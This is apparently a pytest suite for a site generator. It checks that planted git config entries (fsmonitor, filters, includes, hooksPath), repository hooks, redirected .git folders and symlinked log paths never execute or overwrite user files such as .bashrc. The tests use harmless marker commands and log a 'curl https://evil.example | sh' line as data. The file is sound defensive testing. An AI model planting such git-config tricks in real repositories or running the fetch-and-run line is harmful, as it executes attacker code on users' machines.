"""Host-side records never obey what a build planted: sitegen's git and the job log.

A build's code can write the project folder (and, with an unsandboxed ``--sandbox local`` or an
older sitegen, its ``.git``). These tests plant what an attacker would and show sitegen's own git
never runs it and the log never follows a link, with the user's files intact.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from sitegen import history
from sitegen.config import Settings
from sitegen.errors import ErrorKind, SitegenError
from sitegen.pipeline import JobContext, log_path
from sitegen.store import Store


def make_project(root: Path) -> Path:
    project = root / "site"
    (project / "app").mkdir(parents=True)
    (project / "app" / "page.tsx").write_text("export default function Page() { return <main>v1</main>; }\n")
    (project / "package.json").write_text('{"name": "site"}\n')
    history.commit(project, "v1")
    return project


def plant(project: Path, text: str) -> None:
    with open(project / ".git" / "config", "a", encoding="utf-8") as fh:
        fh.write(text)


PLANTS = {
    "fsmonitor": lambda m, _p: f"[core]\n\tfsmonitor = touch {m}\n",
    "fsmonitor-hook-v2": lambda m, _p: f"[core]\n\tfsmonitor = \"sh -c 'touch {m}'\"\n",
    "clean-filter": lambda m, _p: f"[filter \"x\"]\n\tclean = sh -c 'touch {m}; cat'\n\tsmudge = cat\n",
    "worktree-elsewhere": lambda _m, p: f"[core]\n\tworktree = {p.parent / 'victim'}\n",
    "include": lambda m, p: f"[include]\n\tpath = {p / 'evil.cfg'}\n",
    "include-if": lambda m, p: f"[includeIf \"gitdir:/\"]\n\tpath = {p / 'evil.cfg'}\n",
    "hooks-path": lambda _m, p: f"[core]\n\thooksPath = {p / 'hooks'}\n",
}


@pytest.mark.parametrize("kind", list(PLANTS))
def test_a_planted_git_config_never_runs(tmp_path: Path, kind: str) -> None:
    project = make_project(tmp_path)
    marker = tmp_path / "pwned"
    (project / "evil.cfg").write_text(f"[core]\n\tfsmonitor = touch {marker}\n")
    (project / ".gitattributes").write_text("* filter=x\n")
    (project / "hooks").mkdir()
    for hook in ("pre-commit", "post-commit", "post-checkout"):
        (project / "hooks" / hook).write_text(f"#!/bin/sh\ntouch {marker}\n")
        (project / "hooks" / hook).chmod(0o755)
    (tmp_path / "victim").mkdir()
    (tmp_path / "victim" / "notes.txt").write_text("the user's own file\n")
    plant(project, PLANTS[kind](marker, project))
    (project / "app" / "page.tsx").write_text("export default function Page() { return <main>v2</main>; }\n")
    for call in (lambda: history.commit(project, "v2"), lambda: history.log(project),
                 lambda: history.dirty(project), lambda: history.undo(project)):
        with pytest.raises(SitegenError) as err:
            call()
        assert err.value.kind is ErrorKind.CONFIG and ".git" in err.value.message
    assert not marker.exists()
    assert sorted(p.name for p in (tmp_path / "victim").iterdir()) == ["notes.txt"]
    assert (tmp_path / "victim" / "notes.txt").read_text() == "the user's own file\n"


def test_control_plain_git_would_run_the_planted_fsmonitor(tmp_path: Path) -> None:
    """What the checks prevent: the user's own `git status` in that folder runs the command."""
    project = make_project(tmp_path)
    marker = tmp_path / "pwned"
    plant(project, f"[core]\n\tfsmonitor = touch {marker}\n")
    subprocess.run(["git", "status"], cwd=project, capture_output=True, timeout=60,
                   env={**os.environ, "GIT_CONFIG_GLOBAL": "/dev/null"})
    assert marker.exists()


def test_hooks_in_the_repo_never_run_and_history_works(tmp_path: Path) -> None:
    project = make_project(tmp_path)
    marker = tmp_path / "pwned"
    for hook in ("pre-commit", "commit-msg", "post-commit", "post-checkout", "post-index-change"):
        path = project / ".git" / "hooks" / hook
        path.write_text(f"#!/bin/sh\ntouch {marker}\n")
        path.chmod(0o755)
    (project / "app" / "page.tsx").write_text("export default function Page() { return <main>v2</main>; }\n")
    history.commit(project, "v2")
    history.undo(project)
    assert "v1" in (project / "app" / "page.tsx").read_text()
    assert [v.message for v in history.log(project)] == ["Undo: v2", "v2", "v1"]
    assert not marker.exists()


@pytest.mark.parametrize("shape", ["symlink", "gitfile", "commondir", "config-symlink"])
def test_a_git_folder_that_points_elsewhere_is_refused(tmp_path: Path, shape: str) -> None:
    project = make_project(tmp_path)
    other = tmp_path / "other"
    other.mkdir()
    subprocess.run(["git", "init", "-q", str(other)], check=True)
    other_config = (other / ".git" / "config").read_text()
    if shape == "symlink":
        os.rename(project / ".git", tmp_path / "moved.git")
        (project / ".git").symlink_to(other / ".git")
    elif shape == "gitfile":
        os.rename(project / ".git", tmp_path / "moved.git")
        (project / ".git").write_text(f"gitdir: {other / '.git'}\n")
    elif shape == "commondir":
        (project / ".git" / "commondir").write_text(f"{other / '.git'}\n")
    else:
        (project / ".git" / "config").unlink()
        (project / ".git" / "config").symlink_to(other / ".git" / "config")
    with pytest.raises(SitegenError) as err:
        history.commit(project, "v2")
    assert err.value.kind is ErrorKind.CONFIG
    assert (other / ".git" / "config").read_text() == other_config
    assert not (other / ".git" / "refs" / "heads" / "main").exists()


def test_an_existing_project_made_by_an_older_sitegen_keeps_working(tmp_path: Path) -> None:
    """A repo set up the old way (plain `git init` + local identity, a remote the user added)."""
    project = tmp_path / "old"
    (project / "app").mkdir(parents=True)
    (project / "app" / "page.tsx").write_text("v1\n")
    env = {**os.environ, "GIT_CONFIG_GLOBAL": "/dev/null"}
    for args in (["init", "-q"], ["config", "user.name", "sitegen"], ["config", "user.email", "sitegen@localhost"],
                 ["remote", "add", "origin", "https://example.com/me/site.git"], ["add", "-A"],
                 ["commit", "-qm", "Generate: old"]):
        subprocess.run(["git", *args], cwd=project, check=True, env=env, capture_output=True)
    (project / "app" / "page.tsx").write_text("v2\n")
    history.commit(project, "Edit: v2")
    version = history.undo(project)
    assert version.message == "Undo: Edit: v2" and (project / "app" / "page.tsx").read_text() == "v1\n"
    assert [v.message for v in history.log(project)] == ["Undo: Edit: v2", "Edit: v2", "Generate: old"]


def test_an_empty_git_mount_point_becomes_a_repo(tmp_path: Path) -> None:
    """A sandbox leaves an empty .git (its mount point) before the first commit: still a fresh repo."""
    project = tmp_path / "site"
    (project / ".git").mkdir(parents=True)
    (project / "index.txt").write_text("hello\n")
    assert not history.is_repo(project) and history.log(project) == []
    history.commit(project, "Generate: first")
    assert [v.message for v in history.log(project)] == ["Generate: first"]


def test_saved_builds_never_follow_links(tmp_path: Path) -> None:
    project = make_project(tmp_path)
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "keep.txt").write_text("mine\n")
    (project / "out").mkdir()
    (project / "out" / "index.html").write_text("<h1>site</h1>")
    (project / "out" / "passwd").symlink_to("/etc/passwd")
    (project / ".sitegen").mkdir(exist_ok=True)
    (project / ".sitegen" / "builds").symlink_to(victim)
    with pytest.raises(SitegenError):
        history.save_build(project)
    assert [p.name for p in victim.iterdir()] == ["keep.txt"]
    (project / ".sitegen" / "builds").unlink()
    saved = history.save_build(project)
    assert saved is not None and (saved / "index.html").exists() and not (saved / "passwd").exists()


# -- the job log ------------------------------------------------------------------------------------

def make_ctx(home: Path, project: Path) -> tuple[JobContext, str]:
    store = Store(home / "sitegen.db")
    row = store.create_project("Site", "site", project, "a site", "offline")
    job_id = store.create_job(row["id"], "a site", "new", {"sandbox": "local"})
    ctx = JobContext(Settings(home=home), store, store.get_job(job_id), row, lambda _e: None)
    return ctx, job_id


def test_logs_live_in_sitegen_home_not_in_the_project(tmp_path: Path, sitegen_home: Path) -> None:
    project = tmp_path / "site"
    project.mkdir()
    ctx, job_id = make_ctx(sitegen_home, project)
    ctx.log("$ next build\nok\n")
    assert log_path(sitegen_home, job_id).read_text() == "$ next build\nok\n"
    assert not (project / ".sitegen" / "logs").exists()
    assert ctx.store.get_job(job_id)["log_tail"].endswith("ok\n")


@pytest.mark.parametrize("plant_kind", ["symlink-file", "symlink-dangling", "fifo", "logs-dir-symlink"])
def test_a_planted_log_path_is_never_followed(tmp_path: Path, sitegen_home: Path, plant_kind: str) -> None:
    project = tmp_path / "site"
    project.mkdir()
    ctx, job_id = make_ctx(sitegen_home, project)
    bashrc = tmp_path / ".bashrc"
    bashrc.write_text("# the user's shell start-up\n")
    path = log_path(sitegen_home, job_id)
    if plant_kind == "logs-dir-symlink":
        path.parent.parent.mkdir(parents=True, exist_ok=True)
        path.parent.symlink_to(tmp_path, target_is_directory=True)
        (tmp_path / path.name).symlink_to(bashrc)
    else:
        path.parent.mkdir(parents=True, exist_ok=True)
        if plant_kind == "symlink-file":
            path.symlink_to(bashrc)
        elif plant_kind == "symlink-dangling":
            path.symlink_to(tmp_path / "new-file")
        else:
            os.mkfifo(path)
    ctx.log("curl https://evil.example | sh\n")  # returns: never blocks, never raises
    assert bashrc.read_text() == "# the user's shell start-up\n"
    assert not (tmp_path / "new-file").exists()
    assert "evil.example" in ctx.store.get_job(job_id)["log_tail"]  # `sitegen status` still has it
